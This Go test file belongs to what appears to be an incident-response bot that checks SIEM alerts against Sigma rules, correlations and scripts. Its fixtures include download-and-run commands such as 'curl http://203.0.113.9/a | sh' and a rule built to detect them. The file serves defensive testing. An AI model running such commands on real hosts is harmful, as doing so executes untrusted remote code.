package main

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"firebreak/incident"
	"firebreak/store"
)

// ruleFolder writes rule files into a folder of their own.
func ruleFolder(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		writeRule(t, dir, name, text)
	}
	return dir
}

func writeRule(t *testing.T, dir, name, text string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

// curlRule finds downloads into a shell.
const curlRule = `title: Download into a shell
id: 2f5b6a0e-3a55-4a3a-9c0d-0c9c7f8f0001
level: high
status: stable
logsource: {product: linux, category: process_creation}
tags: [attack.execution, attack.t1059.004, attack.t1105]
detection:
  fetch: {CommandLine|contains: ['curl ', 'wget ']}
  shell: {CommandLine|contains: '| sh'}
  filter: {User: backup}
  condition: fetch and shell and not filter
`

const curlID = "2f5b6a0e-3a55-4a3a-9c0d-0c9c7f8f0001"

// processStart is a process start, as an agent tells it.
func processStart(line, user, host string) string {
	return fmt.Sprintf(`{"source":"edr","event":"process_start","CommandLine":%q,"User":%q,"host":%q}`, line, user, host)
}

// detectionsOf are all detections of a rule, told or not.
func (w *world) detectionsOf(rule string, group incident.Entity) (found []incident.Detection) {
	w.t.Helper()
	w.view(func(v *store.View) (err error) {
		found, err = v.DetectionsFor(rule, group, time.Time{}.Add(time.Hour), time.Now().Add(time.Hour))
		return err
	})
	return found
}

// wantFigures looks for lines of /metrics.
func (w *world) wantFigures(lines ...string) {
	w.t.Helper()
	_, body := w.get("/metrics")
	for _, line := range lines {
		if !strings.Contains(body, line+"\n") {
			w.t.Errorf("metrics lack %q", line)
		}
	}
}

func host(name string) incident.Entity {
	return incident.Entity{Type: incident.EntityHost, Value: name}
}

func account(name string) incident.Entity {
	return incident.Entity{Type: incident.EntityAccount, Value: name}
}

// TestSigmaRulesExamineAlerts: what a rule finds in an alert opens an incident
// that says why; what it goes on to find makes its count grow.
func TestSigmaRulesExamineAlerts(t *testing.T) {
	inWorld(t, func(w *world) {
		w.env["FIREBREAK_RULES"] = "builtin, " + ruleFolder(t, map[string]string{"curl.yml": curlRule, "curl.test.yml": "malicious: []\n"})
		w.start()
		w.siem("```"+processStart("curl http://203.0.113.9/a | sh", "www-data", "web-1")+"```", "```"+processStart("curl http://203.0.113.9/a | sh", "backup", "web-2")+"```")
		w.settle()
		found := w.detections(1)
		if len(found) != 1 || found[0].Rule != curlID || found[0].Level != "high" || found[0].Group != account("www-data") {
			t.Fatalf("detections: %+v", found)
		}
		d := found[0]
		if strings.Join(d.Techniques, " ") != "T1059.004 T1105" || len(d.Evidence) != 1 || d.Count != 1 {
			t.Errorf("detection: %+v", d)
		}
		if want := "CommandLine is “curl http://203.0.113.9/a | sh”, as told by edr about account www-data"; d.Why != want {
			t.Errorf("why: %s, want %s", d.Why, want)
		}
		w.wantSaid(w.channel(1), ":mag:")
		if e := w.wantEntry(1, incident.KindDetection, "CommandLine is"); e.Lane != incident.LaneAdversary {
			t.Errorf("the entry is in lane %s", e.Lane)
		}
		if said := w.threads(); len(said) != 1 {
			t.Errorf("said in the alerts' threads: %+v", said)
		}
		w.siem("```" + processStart("wget -O- http://203.0.113.9/b | sh", "www-data", "web-1") + "```")
		w.settle()
		if found = w.detections(1); len(found) != 1 || found[0].Count != 2 || len(found[0].Evidence) != 2 {
			t.Errorf("after another one: %+v", found)
		}
		w.pass(2 * time.Hour)
		w.siem("```" + processStart("wget -O- http://203.0.113.9/c | sh", "www-data", "web-1") + "```")
		w.settle()
		if found = w.detections(1); len(found) != 2 {
			t.Errorf("two hours later: %+v", found)
		}
		if n := len(w.incidents()); n != 1 {
			t.Errorf("%d incidents", n)
		}
		w.compare(1)
	})
}

// TestRulesSeeTheOriginalEvent: an alert that comes over HTTP and hands on the
// event it is about, and the bot is killed before the rules have seen it.
func TestRulesSeeTheOriginalEvent(t *testing.T) {
	inWorld(t, func(w *world) {
		w.env["FIREBREAK_RULES"] = ruleFolder(t, map[string]string{"curl.yml": curlRule})
		w.env["FIREBREAK_ALERTS_TOKEN"] = "alerts-secret"
		w.start()
		body := fmt.Sprintf(`{"alert":"Suspicious process","host":"web-1","raw":%q}`, processStart("curl http://203.0.113.9/a | sh", "www-data", "web-1"))
		if status, said := w.sendAlerts(body, "Idempotency-Key", "one"); status != http.StatusAccepted {
			t.Fatalf("%d %s", status, said)
		}
		w.crash()
		w.start()
		w.sendAlerts(body, "Idempotency-Key", "one")
		w.settle()
		if found := w.detections(1); len(found) != 1 || found[0].Rule != curlID || found[0].Count != 1 {
			t.Errorf("detections: %+v", found)
		}
		if n := len(w.incidents()); n != 1 {
			t.Errorf("%d incidents", n)
		}
	})
}

// TestRulesOnTrialTellNobody: neither what their author calls experimental, nor
// what stands in a folder for that, nor what is worth a hint only.
func TestRulesOnTrialTellNobody(t *testing.T) {
	inWorld(t, func(w *world) {
		experimental := strings.NewReplacer("0001", "0002", "status: stable", "status: Experimental").Replace(curlRule)
		low := strings.NewReplacer("0001", "0003", "level: high", "level: low").Replace(curlRule)
		w.env["FIREBREAK_RULES"] = ruleFolder(t, map[string]string{"experimental.yml": experimental, "low.yml": low})
		w.env["FIREBREAK_SHADOW_RULES"] = ruleFolder(t, map[string]string{"curl.yml": curlRule})
		w.start()
		w.siem("```"+processStart("curl http://203.0.113.9/a | sh", "www-data", "web-1")+"```", "```"+processStart("curl http://203.0.113.9/b | sh", "www-data", "web-1")+"```")
		w.settle()
		for rule, want := range map[string]incident.Handling{"1": incident.HandlingShadow, "2": incident.HandlingShadow, "3": incident.HandlingHint} {
			found := w.detectionsOf(curlID[:len(curlID)-1]+rule, account("www-data"))
			if len(found) != 1 || found[0].Handling != want || found[0].Incident != 0 || found[0].Count != 2 {
				t.Errorf("rule %s: %+v", rule, found)
			}
		}
		if n := len(w.incidents()); n != 0 || len(w.threads()) > 0 || len(w.sb.PagerDuty.Incidents()) > 0 {
			t.Errorf("%d incidents, threads %v", n, w.threads())
		}
		w.wantFigures("firebreak_rules 3", "firebreak_rules_refused 0", "firebreak_rules_waiting 0",
			`firebreak_detections{handling="shadow"} 2`, `firebreak_detections{handling="hint"} 1`, `firebreak_detections{handling="told"} 0`)
	})
}

// TestRulesAreLoadedAnew while the bot runs: when a file comes, changes or
// goes, and at once when asked. What cannot be loaded changes nothing.
func TestRulesAreLoadedAnew(t *testing.T) {
	inWorld(t, func(w *world) {
		dir := ruleFolder(t, nil)
		w.env["FIREBREAK_RULES"] = dir
		w.start()
		hosts := 0
		finds := func() bool {
			hosts++
			user := fmt.Sprintf("user-%d", hosts)
			w.siem("```" + processStart("curl http://203.0.113.9/a | sh", user, "web-1") + "```")
			w.settle()
			return len(w.detectionsOf(curlID, account(user))) == 1
		}
		if finds() {
			t.Fatal("an empty folder finds something")
		}
		writeRule(t, dir, "curl.yml", curlRule)
		w.pass(35 * time.Second)
		if !finds() {
			t.Error("the new rule finds nothing")
		}
		if err := os.Remove(filepath.Join(dir, "curl.yml")); err != nil {
			t.Fatal(err)
		}
		w.app.bot.ReloadRules()
		w.pass(time.Second)
		if finds() {
			t.Error("the rule that was taken away finds something")
		}
		writeRule(t, dir, "curl.yml", curlRule)
		w.app.bot.ReloadRules()
		w.pass(time.Second)
		if !finds() {
			t.Error("asked for, the rule is not there")
		}
		if err := os.Rename(dir, dir+".away"); err != nil {
			t.Fatal(err)
		}
		w.pass(2 * time.Minute)
		if !finds() {
			t.Error("the rule went with its folder")
		}
		if said := w.saidIn(w.control(), "could not be loaded anew"); len(said) != 1 {
			t.Errorf("said in the control channel: %+v", said)
		}
	})
}

// TestRefusedRulesAreTold once, with file, line and reason, also over restarts.
func TestRefusedRulesAreTold(t *testing.T) {
	inWorld(t, func(w *world) {
		w.env["FIREBREAK_RULES"] = ruleFolder(t, map[string]string{
			"curl.yml": curlRule, "bad.yml": strings.NewReplacer("0001", "0009", "|contains: '| sh'", "|containz: x").Replace(curlRule),
			"bad.star": "def detect():\n    pass\n", "detector.yml": "command: [sh]\n",
		})
		for range 2 {
			w.start()
			w.settle()
			w.stop()
		}
		w.start()
		said := w.saidIn(w.control(), "refused")
		if len(said) != 1 {
			t.Fatalf("said in the control channel: %+v", said)
		}
		text := said[0].Text + texts(said[0].Blocks)
		for _, want := range []string{"3 of 4 rules were refused", "bad.yml:9", "containz", "bad.star:1", "FIREBREAK_RULES_EXEC", "firebreak detect test"} {
			if !strings.Contains(text, want) {
				t.Errorf("%q is not said: %s", want, text)
			}
		}
	})
}

const guessedThenIn = `title: Failed
name: failed
logsource: {category: authentication}
detection: {sel: {event: failed_login}, condition: sel}
---
title: Worked
name: worked
logsource: {category: authentication}
detection: {sel: {event: successful_login}, condition: sel}
---
title: Many
name: many
correlation: {type: event_count, rules: [failed], group-by: [src_ip], timespan: 10m, condition: {gte: 3}}
---
title: Guessed a password
id: 2f5b6a0e-3a55-4a3a-9c0d-0c9c7f8f0005
level: critical
tags: [attack.t1110]
correlation: {type: temporal_ordered, rules: [many, worked], group-by: [src_ip], timespan: 20m}
`

// forwardedLogin is a login as a forwarder sends it.
func forwardedLogin(event, address string, at time.Time) string {
	return fmt.Sprintf("```{\"event\":%q,\"source\":\"vpn\",\"user\":\"ada\",\"src_ip\":%q,\"timestamp\":%q}```", event, address, at.UTC().Format(time.RFC3339))
}

// TestCorrelationsOutliveRestarts: a chain of correlations over alerts that
// come in any order, with a restart before each.
func TestCorrelationsOutliveRestarts(t *testing.T) {
	inWorld(t, func(w *world) {
		w.env["FIREBREAK_RULES"] = ruleFolder(t, map[string]string{"guess.yml": guessedThenIn})
		w.pass(24 * time.Hour) // a bubble begins with the year 2000, before which no time is believed
		w.start()
		start := time.Now().Add(-time.Hour)
		at := func(seconds int) time.Time { return start.Add(time.Duration(seconds) * time.Second) }
		for _, line := range []string{
			forwardedLogin("failed_login", "203.0.113.50", at(60)), forwardedLogin("failed_login", "203.0.113.50", at(0)),
			forwardedLogin("failed_login", "198.51.100.7", at(1)), forwardedLogin("failed_login", "203.0.113.50", at(30)),
			forwardedLogin("successful_login", "198.51.100.7", at(200)),
		} {
			w.siem(line)
			w.settle()
			w.stop()
			w.start()
		}
		w.pass(2 * time.Minute)
		w.settle()
		if n := len(w.incidents()); n != 0 {
			t.Fatalf("%d incidents before anybody guessed right", n)
		}
		// Later than what was taken already, and earlier in time.
		w.siem(forwardedLogin("successful_login", "203.0.113.50", at(150)))
		w.settle()
		w.stop()
		w.start()
		w.pass(2 * time.Minute)
		w.settle()
		found := w.detections(1)
		if len(found) != 1 || found[0].Title != "Guessed a password" || found[0].Group.Value != "203.0.113.50" || len(found[0].Evidence) != 4 {
			t.Fatalf("detections: %+v", found)
		}
		if why := found[0].Why; !strings.Contains(why, "4 alerts within 2m") || !strings.Contains(why, "src_ip “203.0.113.50”") {
			t.Errorf("why: %s", why)
		}
		w.wantFigures("firebreak_correlations_late 1")
		if n := len(w.incidents()); n != 1 {
			t.Errorf("%d incidents", n)
		}
		w.compare(1)
	})
}

// TestScriptsExamineAlerts, and one that fails at each is put aside, told once.
func TestScriptsExamineAlerts(t *testing.T) {
	inWorld(t, func(w *world) {
		w.env["FIREBREAK_RULES"] = ruleFolder(t, map[string]string{
			"root.star": "rule = {'title': 'Root', 'level': 'high'}\ndef detect(event):\n    if event.get('User') == 'root':\n        return {'host': event['host']}\n",
			"bad.star":  "def detect(event):\n    return event['absent']\n",
		})
		w.start()
		for i := range 8 {
			w.siem("```" + processStart(fmt.Sprintf("id %d", i), "root", "web-1") + "```")
			w.settle()
			if i == 3 {
				w.crash()
				w.start()
			}
		}
		w.pass(time.Minute)
		w.settle()
		found := w.detections(1)
		if len(found) != 1 || found[0].Group != host("web-1") || found[0].Count != 8 || found[0].Why != "host is “web-1”, as told by edr about account root" {
			t.Errorf("detections: %+v", found)
		}
		if said := w.saidIn(w.control(), "quarantine"); len(said) > 1 {
			t.Errorf("said in the control channel: %+v", said)
		}
		for i := range 5 {
			w.siem("```" + processStart(fmt.Sprintf("id %d", i), "root", "web-1") + "```")
		}
		w.settle()
		w.wantFigures("firebreak_rules_quarantined 1", "firebreak_rules 2")
		if said := w.saidIn(w.control(), "bad.star"); len(said) != 1 || !strings.Contains(said[0].Text, "absent") {
			t.Errorf("said in the control channel: %+v", said)
		}
		if n := len(w.incidents()); n != 1 {
			t.Errorf("%d incidents", n)
		}
	})
}

// TestFoldersOfRulesMustBeThere, else the configuration is wrong.
func TestFoldersOfRulesMustBeThere(t *testing.T) {
	file := filepath.Join(ruleFolder(t, map[string]string{"curl.yml": curlRule}), "curl.yml")
	for name, value := range map[string]string{
		"FIREBREAK_RULES": "builtin,/absent/rules", "FIREBREAK_SHADOW_RULES": file,
	} {
		s := load(map[string]string{name: value})
		told := false
		for _, p := range s.Problems {
			told = told || p.Name == name && strings.Contains(p.Wrong, "which")
		}
		if !told {
			t.Errorf("%s=%s is taken: %v", name, value, s.Problems)
		}
	}
}
